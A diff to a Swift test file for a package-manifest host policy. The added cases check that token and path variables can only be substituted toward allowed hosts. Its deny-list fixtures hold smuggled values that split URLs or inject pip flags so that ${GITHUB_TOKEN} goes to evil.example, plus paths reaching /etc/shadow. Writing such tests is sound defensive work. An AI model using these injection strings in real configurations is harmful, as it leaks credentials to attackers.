@@ -129,6 +129,7 @@ import Testing
     variables:
       - {match: "GITHUB_*", hosts: [github.com, "*.example.com"]}
       - {match: ROOT}
+      - {match: WORDS}
     credentialFiles:
       - {match: "/run/secrets/*", hosts: [github.com]}
       - {match: "/run/any/**"}
@@ -138,6 +139,10 @@ import Testing
     "modules: {a: {module: a, pip_name: \"git+https://${GITHUB_TOKEN}@github.com/o/r.git\"}}",
     "modules: {a: {module: a, pip_name: \"git+https://${GITHUB_TOKEN}@git.example.com:8443/o/r.git\"}}",
     "modules: {a: {module: a, pip_name: \"a --index-url https://u:${GITHUB_TOKEN}@p.example.com/simple\"}}",
+    "modules: {a: {module: a, pip_name: \"${GITHUB_REPO}\"}}",
+    "modules: {a: {module: a, pip_name: \"git+git@github.com:${GITHUB_ORG}/r.git#egg=${GITHUB_ORG}\"}}",
+    "modules: {a: {module: a, pip_name: \"a @ git+https://github.com/${GITHUB_ORG}/r.git@${GITHUB_ORG:-v1} ; os_name == '${ROOT}'\"}}",
+    "modules: {a: {module: a, pip_name: \"a${WORDS}${GITHUB_TOKEN}@p.example.com/simple\"}}",
     "pythonPath: [\"${ROOT}/lib\"]",
     "indexes: [{name: a, url: \"https://${GITHUB_TOKEN}@p.example.com/simple\"}]",
     "indexes: [{name: a, url: https://p.example.com/simple, token: \"${GITHUB_TOKEN}\"}]",
@@ -148,7 +153,11 @@ import Testing
   ])
   func whatIsListedMayBeUsed(spec: String) throws {
     let fixture = try ManifestFixture(["pinion.yaml": moduleSet(spec), "host.yaml": host(Self.grants)])
-    fixture.variables = ["GITHUB_TOKEN": "ghp_0123", "ROOT": "/srv"]
+    fixture.variables = [
+      "GITHUB_TOKEN": "ghp_0123", "ROOT": "/srv", "GITHUB_REPO": "git+https://github.com/o/r.git@v1",
+      "GITHUB_ORG": "org",
+      "WORDS": " --index-url https://u:",
+    ]
     try fixture.takeHost("host.yaml")
     #expect(fixture.complaints() == "loaded: [\"test\"]")
   }
@@ -164,6 +173,16 @@ import Testing
       "modules: {a: {module: a, pip_name: \"a==${GITHUB_TOKEN}\"}}",
       "modules: {a: {module: a, pip_name: \"a --index-url https://${GITHUB_TOKEN}@p.example.org/simple\"}}",
       "modules: {a: {module: a, pip_name: \"git+git@evil.example:${GITHUB_TOKEN}/r.git\"}}",
+      // What was written as one URL is two when it is read, or the other way round.
+      "modules: {a: {module: a, pip_name: \"a -i https://github.com/x${GITHUB_NO:- -f http://u:}${GITHUB_TOKEN}@evil.example/\"}}",
+      "modules: {a: {module: a, pip_name: \"a -i https://github.com/x${WORDS}${GITHUB_TOKEN}@evil.example/simple\"}}",
+      "modules: {a: {module: a, pip_name: \"a -i https://github.com/x$${ -f http://u:${GITHUB_TOKEN}@evil.example/\"}}",
+      "modules: {a: {module: a, pip_name: \"a @ http://evil.example/a-1-py3-none-any.whl?\\u00a0://github.com/${GITHUB_TOKEN}\"}}",
+      "modules: {a: {module: a, pip_name: \"http://evil.example/a-1.zip?\\u2003://github.com/${GITHUB_TOKEN}\"}}",
+      "modules: {a: {module: a, pip_name: \"git+http://evil.example/r?\\u2003://github.com/${GITHUB_TOKEN}\"}}",
+      "modules: {a: {module: a, pip_name: \"a -i https://github.com/e${ACCENT}/x\"}}",
+      "modules: {a: {module: a, pip_name: \"a -i https://evil.example/${GITHUB_ORG:-org}\"}}",
+      "modules: {a: {module: a, pip_name: \"${OTHER}==${NOWHERE}\"}}",
       "modules: {a: {module: \"${GITHUB_TOKEN}\"}}",
       "verification: {env: {A: \"${GITHUB_TOKEN}\"}}",
       "lock: {update: \"${OTHER}\"}",
@@ -171,7 +190,7 @@ import Testing
       "indexes: [{name: a, url: https://p.example.org/simple, token: \"${GITHUB_TOKEN}\"}]",
       "indexes: [{name: a, url: https://github.com/simple, username: x, passwordFile: /etc/passwd}]",
       "git: {credentials: [{host: evil.example, token: \"${GITHUB_TOKEN}\"}]}",
-      "git: {credentials: [{host: \"*.org\", token: \"${GITHUB_TOKEN}\"}]}",
+      "git: {credentials: [{host: \"*.example.org\", token: \"${GITHUB_TOKEN}\"}]}",
       "git: {credentials: [{host: \"?.example.org\", token: \"${GITHUB_TOKEN}\"}]}",
       "git: {credentials: [{host: evil.example, tokenFile: /run/secrets/t}]}",
       "git: {credentials: [{host: github.com, tokenFile: /run/secrets/../../etc/shadow}]}",
@@ -181,7 +200,10 @@ import Testing
     var record = ""
     for spec in specs {
       let fixture = try ManifestFixture(["pinion.yaml": moduleSet(spec), "host.yaml": host(Self.grants)])
-      fixture.variables = ["GITHUB_TOKEN": "ghp-0123", "OTHER": "oth3r", "ROOT": "/srv"]
+      fixture.variables = [
+        "GITHUB_TOKEN": "ghp-0123", "OTHER": "oth3r", "ROOT": "/srv", "WORDS": " --extra-index-url=https://u:",
+        "ACCENT": "\u{301}x",
+      ]
       try fixture.takeHost("host.yaml")
       let said = fixture.complaints()
       #expect(said.contains("error policyDenied"), "'\(spec)' was let through: \(said)")
@@ -190,6 +212,21 @@ import Testing
     }
     let snapshot = Snapshot("host-breaches", beside: #filePath)
     #expect(try snapshot.text(orRecord: record) == record)
+  }
+
+  /// Two letters that have become one would move every place behind them.
+  @Test func placesMustBeExact() throws {
+    let fixture = try ManifestFixture([
+      "pinion.yaml": moduleSet(
+        "modules: {a: {module: a, pip_name: \"a -i https://github.com/e${ROOT}/${GITHUB_ORG}\"}}"),
+      "host.yaml": host(Self.grants),
+    ])
+    fixture.variables = ["GITHUB_ORG": "org", "ROOT": "\u{301}x"]
+    try fixture.takeHost("host.yaml")
+    let said = fixture.complaints()
+    #expect(
+      said.hasPrefix("error policyDenied: `spec.modules.a.pip_name` has a mark that joins a variable's value to"),
+      "\(said)")
   }
 
   @Test func anEmptyListListsNothing() throws {
